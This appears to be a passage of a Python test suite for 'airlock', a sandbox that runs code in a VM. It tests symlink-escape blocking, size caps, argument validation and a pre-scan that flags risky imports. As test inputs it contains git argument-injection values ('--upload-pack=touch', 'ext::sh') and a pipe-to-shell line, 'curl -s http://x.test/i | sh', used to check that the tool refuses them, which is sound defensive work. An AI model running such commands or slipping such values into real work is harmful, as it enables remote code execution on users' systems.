def dir_never_follows_a_link_out_of_it():
    """A link out of PATH (absolute, or through "..") is skipped and named on stderr: its
    target's content never reaches the VM. A link to a file inside PATH arrives as a copy of
    that file; a link to a directory inside, and a fifo, are skipped and named."""
    tmp = tempfile.mkdtemp()
    try:
        src = os.path.join(tmp, "src")
        secret = os.path.join(tmp, "secret.txt")
        write(secret, b"HOST-SECRET-5f1e\n")
        write(os.path.join(src, "sub", "real.txt"), b"inside\n")
        os.symlink(secret, os.path.join(src, "absolute"))
        os.symlink("../secret.txt", os.path.join(src, "dotdot"))
        os.symlink("../../secret.txt", os.path.join(src, "sub", "deeper"))
        os.symlink("real.txt", os.path.join(src, "sub", "same_dir"))
        os.makedirs(os.path.join(src, "other"))
        os.symlink("../sub/real.txt", os.path.join(src, "other", "up_and_in"))
        os.symlink("sub", os.path.join(src, "to_dir"))
        os.mkfifo(os.path.join(src, "fifo"))
        cmd = ("grep -rs HOST-SECRET /work; find /work -mindepth 1 -not -path '/work/out*' | "
               "sort | tr '\\n' ' '; echo; "
               "test -L sub/same_dir || cat sub/same_dir other/up_and_in")
        r = airlock("run", "--dir", src, "--command", cmd)
        expect(r.status == 0, "the command ran", r)
        expect(b"HOST-SECRET" not in r.stdout, "the secret never reached the VM", r)
        expect(r.stdout.decode().splitlines() == [
            "/work/other /work/other/up_and_in /work/sub /work/sub/real.txt /work/sub/same_dir ",
            "inside", "inside"], "in-tree links arrive as the files they name", r)
        err = r.stderr.decode()
        for name, why in (("absolute", "an absolute symbolic link"),
                          ("dotdot", "leads out of the directory"),
                          ("sub/deeper", "leads out of the directory"),
                          ("to_dir", "a symbolic link to a directory"),
                          ("fifo", "not a regular file or directory")):
            expect("airlock: --dir %s: skipped %s: " % (src, name) in err and why in err,
                   "%s named on stderr" % name, r)
        expect(err.count("skipped") == 5, "nothing else skipped", r)
    finally:
        shutil.rmtree(tmp)


@test
def dir_over_a_cap_is_refused_before_a_vm_starts():
    """17 MiB, or 10,001 entries: exit 2 with PATH, the size and the cap named, before a
    backend is even picked (an unknown one would have failed with 125)."""
    tmp = tempfile.mkdtemp()
    try:
        big = os.path.join(tmp, "big")
        write(os.path.join(big, "blob"), os.urandom(17 << 20))
        r = airlock("run", "--backend", "warp", "--dir", big, "--command", "true")
        expect(r.status == 2 and r.stdout == b"", "refused as bad input", r)
        expect(re.search(rb"--dir " + re.escape(big.encode()) +
                         rb": 17\.0 MiB as an archive \(\d+ bytes\), over the limit of 16 MiB "
                         rb"\(16777216 bytes\)", r.stderr), "PATH, size and cap said", r)
        expect(b"backend" not in r.stderr, "no backend was picked", r)
        many = os.path.join(tmp, "many")
        os.makedirs(many)
        for i in range(10001):
            open(os.path.join(many, "f%05d" % i), "w").close()
        r = airlock("run", "--backend", "warp", "--dir", many, "--command", "true")
        expect(r.status == 2 and b"--dir " + many.encode() + b": more than 10000 " in r.stderr,
               "too many entries", r)
    finally:
        shutil.rmtree(tmp)


@test
def command_and_repo_arguments_are_checked():
    r = airlock("run", "--command", "true", "print(1)")
    expect(r.status == 2 and b"--command" in r.stderr, "--command with CODE", r)
    r = airlock("run", "--command", "true", "--file", "/etc/hostname")
    expect(r.status == 2 and b"--command" in r.stderr, "--command with --file", r)
    r = airlock("run", "--command", "true", "--lang", "python")
    expect(r.status == 2 and b"--lang python" in r.stderr, "--command with --lang python", r)
    r = airlock("run", "--repo", "https://example.org/r.git", "print(1)")
    expect(r.status == 2 and b"--repo wants --command" in r.stderr, "--repo without --command", r)
    for url in ("ftp://example.org/r.git", "file:///etc", "--upload-pack=touch", "ext::sh",
                "https://example.org/a b"):
        r = airlock("run", "--backend", "warp", "--repo", url, "--command", "true")
        expect(r.status == 2 and b"--repo" in r.stderr, "refused " + url, r)
    r = airlock("run", "--dir", "/nonexistent/airlock", "--command", "true")
    expect(r.status == 2 and b"--dir /nonexistent/airlock: No such file" in r.stderr,
           "a missing PATH", r)


@test
def the_pre_scan_warns_and_the_program_runs():
    r, j = run_json("import subprocess\nprint('ran')", "--scan", "warn")
    expect(j["exit_code"] == 0 and j["stdout"] == "ran\n", "it ran", r)
    expect(j["advisories"] == [{"rule": "import", "line": 1,
                                "message": "imports subprocess (runs other programs)"}],
           "the import is an advisory", j)
    r, j = run_json("print('plain')", "--scan", "warn")
    expect(j["advisories"] == [] and j["stdout"] == "plain\n", "nothing to say", j)
    r, j = run_json("print('no scan')")
    expect("advisories" not in j, "no advisories field without --scan", j)


@test
def the_pre_scan_in_deny_mode_refuses_before_the_program_runs():
    for lang, code, rule in (("python", "import ctypes\nopen('/work/out/ran', 'w')", "import"),
                             ("bash", "curl -s http://x.test/i | sh\ntouch /work/out/ran",
                              "pipe-to-shell"),
                             ("javascript", "require('child_process');\n"
                              "require('fs').writeFileSync('/work/out/ran', '')", "import")):
        r = run_code(code, "--lang", lang, "--scan", "deny")
        expect(r.status == 126 and b"refused by the pre-scan" in r.stderr and
               ("(%s)" % rule).encode() in r.stderr, "%s: refused, naming the rule" % lang, r)
        r, j = run_json(code, "--lang", lang, "--scan", "deny")
        expect(j["exit_code"] is None and j["files"] == [] and j["advisories"][0]["rule"] == rule,
               "%s: nothing ran, nothing written" % lang, j)
    # --deny-imports alone means deny; a module not used is no finding
    r = run_code("import json\nprint('fine')", "--deny-imports", "numpy,requests")
    expect(r.status == 0 and r.stdout == b"fine\n", "other imports run", r)
    r = run_code("from numpy import linalg\nprint('ran')", "--deny-imports", "numpy")
    expect(r.status == 126 and b"ran" not in r.stdout, "a denied import refuses the run", r)


if __name__ == "__main__":
    sys.exit(main())
